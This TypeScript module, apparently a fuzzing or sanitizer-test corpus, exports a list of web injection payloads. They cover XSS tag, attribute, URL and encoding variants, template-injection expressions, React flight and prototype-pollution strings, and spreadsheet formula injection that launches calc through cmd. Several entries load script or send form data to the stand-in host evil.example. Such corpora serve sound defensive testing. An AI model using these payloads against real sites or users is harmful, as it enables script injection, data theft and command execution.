// Payloads that have worked somewhere: markup, attributes, addresses, templates, encodings, endings of scripts.
const calls = ["alert(1)", "window.xss=1", "confirm(1)"];
const tags = [
  "img src=x onerror=",
  "svg onload=",
  "body onload=",
  "details open ontoggle=",
  "video src=x onerror=",
  "audio src=x onerror=",
];
const more = [
  "input autofocus onfocus=",
  "select autofocus onfocus=",
  "marquee onstart=",
  "iframe onload=",
  "object onerror=",
];
const marked = [...tags, ...more].flatMap((tag) => calls.map((call) => `<${tag}${call}>`));
const endings = [
  "</script>",
  "</title>",
  "</textarea>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  "'>",
  '">',
  "`>",
  "}}",
  "\\u003c/script>",
];
const ended = endings.flatMap((end) => [
  `${end}<script>alert(1)</script>`,
  `${end}<img src=x onerror=alert(1)>`,
]);
const attributes = [
  '" onmouseover=alert(1) x="',
  "' onfocus=alert(1) autofocus x='",
  '" style="x:expression(alert(1))',
  "` onerror=alert(1) `",
];
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\u00a0script:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
];
const more2 = [
  "//evil.example/x.js",
  "javascript://%0aalert(1)",
  "blob:x",
  "feed:javascript:alert(1)",
  "\\\\evil.example\\x",
];
const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "[[alert(1)]]",
  "{alert(1)}",
];
const encoded = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
];
const more3 = [
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "＜script＞alert(1)＜/script＞",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];
const scripts = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<script/x>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
];
const more4 = [
  "<script type=module>alert(1)</script>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
];
const more5 = [
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example><button>go</button></form>",
  "<svg><script>alert(1)</script></svg>",
];
const more6 = [
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<a href=javascript:alert(1)>x</a>",
  "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
];
const more7 = [
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<embed src=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<x contenteditable onblur=alert(1)>",
];
const flight = [
  '1:I["x",[],""]',
  '0:{"a":"$@1"}',
  "$undefined",
  "$L1",
  "$F1",
  "$Sreact.element",
  '{"$$typeof":"Symbol(react.element)"}',
  "__proto__",
  "constructor",
];
const cells = ['=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"];

export const payloads: readonly string[] = [
  ...[
    ...marked,
    ...ended,
    ...attributes,
    ...addresses,
    ...more2,
    ...templates,
    ...encoded,
    ...more3,
    ...scripts,
  ],
  ...[...more4, ...more5, ...more6, ...more7, ...flight, ...cells],
];
